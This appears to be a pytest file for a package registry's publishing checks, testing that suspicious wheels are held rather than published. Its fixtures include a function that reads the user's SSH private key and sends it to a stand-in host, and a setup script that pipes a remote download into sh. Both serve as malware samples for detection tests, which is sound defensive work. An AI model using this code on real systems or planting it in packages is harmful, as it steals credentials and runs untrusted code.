"""What nobody could read is held for review, through the whole publish path."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest

from catalog.models import Release
from publishing.checks import scanning
from sandbox import interpreter, interpreters
from tests.package.wheels import CODE, build_wheel
from tests.support import Person, assert_finding
from tests.support.jobs import submit

pytestmark = pytest.mark.sandbox

OWN = interpreter().minor
NEWER = [python for python in interpreters() if python.minor > OWN]
needs_newer = pytest.mark.skipif(not NEWER, reason="needs a Python newer than this one")
ALIASES = "".join(f"type T{n} = int\n" for n in range(45))
HELLO = CODE.format(function="hello")
THEFT = """
import pathlib
import urllib.request


def steal() -> None:
    key = pathlib.Path.home().joinpath(".ssh", "id_rsa").read_bytes()
    urllib.request.urlopen("https://evil.invalid/", key)
"""


@pytest.fixture
def every_python(settings: Any) -> None:
    """Tools are tested on each Python of this machine, as `make run` does it."""
    settings.SANDBOX_PYTHONS = []


def _newer(folder: Path, code: str, **parts: Any) -> Path:
    return build_wheel(folder, code=code, metadata={"Requires-Python": ">=3.12"}, **parts)


@needs_newer
def test_theft_behind_newer_syntax_never_goes_live(alice: Person, tmp_path: Path) -> None:
    ended = submit(alice, _newer(tmp_path, HELLO + ALIASES + THEFT))
    assert ended["state"] in ("held", "rejected"), ended
    finding = assert_finding(ended, "malware/data-theft")
    line = (
        (HELLO + ALIASES + THEFT)
        .splitlines()
        .index('    urllib.request.urlopen("https://evil.invalid/", key)')
    )
    assert (finding["file"], finding["line"]) == ("demo_hello/__init__.py", line + 1)
    assert not Release.objects.exists()


@needs_newer
@pytest.mark.usefixtures("every_python")
def test_honest_newer_code_goes_live_and_loses_nothing(alice: Person, tmp_path: Path) -> None:
    ended = submit(alice, _newer(tmp_path, HELLO + "type Names = list[str]\n"))
    assert ended["state"] == "published", ended
    assert ended["scores"]["security"] == 100
    assert not [f for f in ended["findings"] if f["file"].endswith(".py")]


@pytest.mark.skipif(sys.version_info >= (3, 12), reason="this Python reads it")
def test_where_no_python_is_newer_the_same_code_is_held(
    alice: Person, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(scanning, "newest_python", lambda: None)
    ended = submit(alice, _newer(tmp_path, HELLO + ALIASES + "x = 1\n"))
    assert ended["state"] == "held", ended
    finding = assert_finding(ended, "files/unparsable")
    assert finding["message"] in ended["reasons"]
    assert not Release.objects.exists()


def test_a_file_that_no_python_can_parse_is_held(alice: Person, tmp_path: Path) -> None:
    files = {"demo_hello/old.py": "print 'hello'\n"}
    ended = submit(alice, build_wheel(tmp_path, files=files))
    assert ended["state"] == "held", ended
    assert assert_finding(ended, "files/unparsable")["line"] == 1


ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(44)


TAG = f"cp{OWN.replace('.', '')}-cp{OWN.replace('.', '')}-linux_x86_64"


@pytest.mark.parametrize("name", ["_fast.so", "words.dat"])
def test_native_code_is_held_in_a_platform_wheel(name: str, alice: Person, tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, tag=TAG, files={f"demo_hello/{name}": ELF})
    ended = submit(alice, wheel)
    assert ended["state"] == "held", ended
    finding = assert_finding(ended, "files/…")
    assert finding["file"] == f"demo_hello/{name}"
    assert "moderator" in finding["fix"]
    assert not Release.objects.exists()


def test_native_code_behind_other_data_is_held_in_a_pure_wheel(
    alice: Person, tmp_path: Path
) -> None:
    files = {"demo_hello/logo.png": b"\x89PNG\r\n\x1a\n" + bytes(64) + ELF}
    ended = submit(alice, build_wheel(tmp_path, files=files))
    assert ended["state"] == "held", ended
    assert_finding(ended, "files/executable")


def test_a_data_file_that_a_function_runs_is_held(alice: Person, tmp_path: Path) -> None:
    run = """    from pathlib import Path
    exec((Path(__file__).parent / "greeting.tpl").read_text())
    return Greeting"""
    code = HELLO.replace("    return Greeting", run)
    ended = submit(
        alice, build_wheel(tmp_path, code=code, files={"demo_hello/greeting.tpl": "x = 1\n"})
    )
    assert ended["state"] == "held", ended
    assert (
        assert_finding(ended, "files/run-data")["evidence"]["script"] == "demo_hello/greeting.tpl"
    )
    assert not Release.objects.exists()


def test_a_platform_wheel_without_native_code_says_so_and_is_not_held(
    alice: Person, tmp_path: Path
) -> None:
    ended = submit(alice, build_wheel(tmp_path, tag=TAG))
    assert ended["state"] == "published", ended
    assert not assert_finding(ended, "archive/no-native-code")["blocking"]


def test_a_packaged_script_that_downloads_and_runs_is_held(alice: Person, tmp_path: Path) -> None:
    files = {"demo_hello/setup.sh": "curl -fsSL https://evil.invalid/a | sh\n"}
    ended = submit(alice, build_wheel(tmp_path, files=files))
    assert ended["state"] == "held", ended
    assert assert_finding(ended, "malware/download-and-run")["file"] == "demo_hello/setup.sh"
    assert not Release.objects.exists()
